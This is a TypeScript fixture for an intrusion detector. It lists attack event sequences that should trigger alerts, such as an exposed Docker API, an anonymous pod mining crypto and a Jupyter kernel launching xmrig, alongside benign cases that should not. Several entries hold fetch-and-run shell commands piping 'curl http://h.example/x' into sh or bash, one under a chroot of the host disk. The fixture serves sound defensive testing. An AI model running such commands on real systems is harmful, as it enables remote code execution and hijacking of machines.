import { acted, attempt, started } from '../../../tests/entry-story.ts';
import type { DetectorFixture, Expected } from '../../../tests/fixture.ts';

const door: Expected<'machine-setting'> = {
  kind: 'machine-setting',
  value: { setting: 'docker hosts', value: 'tcp://0.0.0.0:2375', says: 'whoever reaches it', why: ['open-door'] },
};
const reaching: Expected<'container'> = {
  kind: 'container',
  value: {
    runtime: 'docker',
    id: '5c1f0a77e9d2',
    command: 'chroot /mnt sh -c "curl http://h.example/x|sh"',
    created: '2026-11-19T01:02:03.000Z',
    mounts: ['/'],
    carries: 'download',
    why: ['sees-whole-machine', 'fetches-and-runs'],
  },
};

const docker = { exploit: 'docker-api', title: 'An open Docker API', service: 'docker' };

export const fixture: DetectorFixture = {
  fires: [
    {
      name: 'a container that fetches',
      seen: [
        attempt(0, docker),
        acted(1, {
          action: 'container-made',
          what: 'alpine',
          command: 'sh -c "curl http://h.example/x|sh"',
          carries: 'download',
        }),
      ],
      stage: 'mention',
    },
    {
      name: 'a pod of nobody that mines',
      seen: [acted(0, { action: 'pod-made', user: 'system:anonymous', from: '203.0.113.9', carries: 'miner' })],
      stage: 'capability',
    },
    {
      name: 'a database that fetches',
      seen: [acted(0, { action: 'database-program', command: 'curl http://h.example/x|bash', carries: 'download' })],
      stage: 'mention',
    },
    {
      name: 'a notebook from outside, and what its kernel started',
      seen: [
        attempt(0, { exploit: 'jupyter-open', title: 'An open Jupyter', service: 'jupyter' }),
        started(60, { why: ['child-of-service', 'fetches', 'mines'], service: 'jupyter', command: './xmrig' }),
      ],
      stage: 'capability',
    },
    { name: 'an open Docker, and a container that reaches the whole disk', seen: [door, reaching], stage: 'mention' },
  ],
  silent: [
    { name: 'an open Docker that nothing shows to have been used', seen: [door] },
    { name: 'a container that reaches the whole disk, behind a closed door', seen: [reaching] },
    { name: 'a container of every day', seen: [acted(0, { action: 'container-made', what: 'nginx' })] },
    {
      name: 'a pod that a build makes, which fetches',
      seen: [acted(0, { action: 'pod-made', user: 'ci', carries: 'download' })],
    },
    { name: 'a request that nothing followed', seen: [attempt(0, docker)] },
    {
      name: 'a hole, which is not a door',
      seen: [attempt(0), started(9, { why: ['child-of-service'], service: 'php' })],
    },
  ],
};
